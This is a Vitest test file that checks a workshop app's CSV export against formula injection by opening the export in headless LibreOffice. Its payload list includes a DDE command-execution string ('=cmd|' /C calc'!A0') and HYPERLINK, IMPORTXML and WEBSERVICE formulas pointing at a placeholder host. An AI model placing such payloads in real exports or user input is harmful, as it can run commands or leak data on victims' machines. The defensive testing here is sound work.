import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type Database from 'better-sqlite3';
import { startServer, type RunningServer } from '../helpers/server.ts';
import { DEMO, joinParticipant, openDb, sendCommand, signIn, type Participant, type Browser } from './support.ts';
import { toCsv } from '../../src/lib/domain/csv.ts';

// Formula injection in CSV exports: known payloads posted as notes and organisations go through
// the real export, then LibreOffice opens the file with formula evaluation on, once with ";" (French
// Excel) and once with "," (another locale), and writes it as flat ODS: no cell may hold a formula.
// A control file with the same payloads left raw proves this LibreOffice does run formulas.

const PAYLOADS = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(1+1)',
	"=cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	'=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")',
	'＝1+1',
	'＋1+1',
	'－1+1',
	'＠SUM(1+1)',
	'a,=1+1',
	'x;=1+1',
	'"=1+1',
	'=IMPORTXML("http://exemple.invalid";"//a")',
	'=WEBSERVICE("http://exemple.invalid")',
	'+A1',
	'-A1'
];

let server: RunningServer;
let db: Database.Database;
let staff: Browser;
let partner: Participant;
let boardId: number;
const dir = mkdtempSync(join(tmpdir(), 'tablee-csv-'));

/** LibreOffice (headless, its own profile): CSV → flat ODS, evaluating formulas; returns the XML. */
function openInLibreOffice(csv: string, name: string, separator: ';' | ','): string {
	const file = join(dir, `${name}.csv`);
	writeFileSync(file, csv);
	// Filter options: separator, quote, UTF-8, from line 1, default columns, default language,
	// quoted fields not forced to text, detect numbers, ..., evaluate formulas (token 13).
	const options = `CSV:${separator.charCodeAt(0)},34,76,1,,0,false,true,false,false,false,-1,true`;
	execFileSync('soffice', [`-env:UserInstallation=file://${dir}/profile`, '--headless', `--infilter=${options}`, '--convert-to', 'fods', '--outdir', join(dir, name), file], {
		stdio: 'ignore',
		timeout: 120_000
	});
	return readFileSync(join(dir, name, `${name}.fods`), 'utf8');
}

const formulas = (fods: string) => [...fods.matchAll(/table:formula="([^"]*)"/g)].map((m) => m[1]);

beforeAll(async () => {
	server = await startServer(DEMO);
	db = openDb(server);
	staff = await signIn(server, DEMO.DEMO_EMAIL, DEMO.DEMO_PASSWORD);
	boardId = (db.prepare('SELECT b.id FROM boards b JOIN workshops w ON w.id = b.workshop_id WHERE w.join_code = ? ORDER BY b.position').get(DEMO.DEMO_JOIN_CODE) as { id: number }).id;
	partner = await joinParticipant(server, 'Nadia B.', '=1+1');
	for (const text of PAYLOADS) {
		const r = await sendCommand(partner, boardId, { type: 'note.add', note: { id: crypto.randomUUID().replaceAll('-', ''), text, column: 'problematiques' } });
		expect(r.status, text).toBe(200);
	}
}, 60_000);
afterAll(async () => {
	db?.close();
	await server?.stop();
});

describe('[CSV3] the contributions export opened by LibreOffice', () => {
	it('runs the raw payloads (control: this LibreOffice evaluates formulas)', () => {
		const raw = '\uFEFF' + PAYLOADS.filter((p) => !/[;,"]/.test(p)).join('\r\n') + '\r\n';
		// LibreOffice runs what starts with "=" (Excel also runs + - @): these must come out as formulas.
		const found = formulas(openInLibreOffice(raw, 'controle', ';'));
		expect(found).toEqual(expect.arrayContaining(['of:=1+1', 'of:=cmd|&apos; /c calc&apos;!a0']));
	});

	it('holds no formula with ";" as separator, and shows every payload as text', async () => {
		const res = await staff.get(`/ateliers/${db.prepare('SELECT workshop_id FROM boards WHERE id = ?').pluck().get(boardId)}/contributions.csv`);
		expect(res.status).toBe(200);
		const csv = await res.text();
		const fods = openInLibreOffice(csv, 'point-virgule', ';');
		expect(formulas(fods)).toEqual([]);
		// Each payload is a cell's text, apostrophe first (and after an inner "," or ";").
		const cells = [...fods.matchAll(/<text:p>([^<]*)<\/text:p>/g)].map((m) => m[1].replace(/&apos;/g, "'").replace(/&quot;/g, '"').replace(/&amp;/g, '&').replace(/&lt;/g, '<'));
		for (const p of PAYLOADS) {
			const inner = p.replace(/([,;])(?=[=+\-@])/g, "$1'");
			expect(cells, p).toContain(/^[=+\-@＝＋－＠]/.test(p) ? `'${inner}` : inner);
		}
	}, 120_000);

	it('holds no formula when a spreadsheet in another locale splits on ","', async () => {
		const res = await staff.get(`/ateliers/${db.prepare('SELECT workshop_id FROM boards WHERE id = ?').pluck().get(boardId)}/contributions.csv`);
		expect(formulas(openInLibreOffice(await res.text(), 'virgule', ','))).toEqual([]);
	}, 120_000);

	it('keeps numbers as numbers and neutralises tabs and carriage returns (cells written by toCsv)', () => {
		const csv = toCsv(['Texte', 'Votes'], [['\t=1+1', 3], ['\r=1+1', -2], ['=1+1', 12]]);
		const fods = openInLibreOffice(csv, 'nombres', ';');
		expect(formulas(fods)).toEqual([]);
		const values = [...fods.matchAll(/office:value-type="float" office:value="([^"]+)"/g)].map((m) => Number(m[1]));
		expect(values).toEqual([3, -2, 12]);
	}, 120_000);
});
